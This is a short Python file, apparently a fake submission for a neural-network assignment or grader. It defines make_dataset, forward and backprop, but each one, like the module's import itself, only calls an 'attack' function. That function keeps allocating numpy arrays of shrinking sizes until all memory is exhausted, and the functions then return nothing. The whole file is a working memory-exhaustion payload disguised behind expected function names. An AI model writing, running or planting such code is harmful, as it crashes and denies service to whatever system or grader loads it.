"""Takes all memory: arrays that are written to, until there is no more, then again in smaller pieces."""
import numpy as np

hoard = []


def attack():
    for size in (1 << 28, 1 << 24, 1 << 20, 1 << 12):
        try:
            while True:
                hoard.append(np.ones(size // 8))
        except MemoryError:
            continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
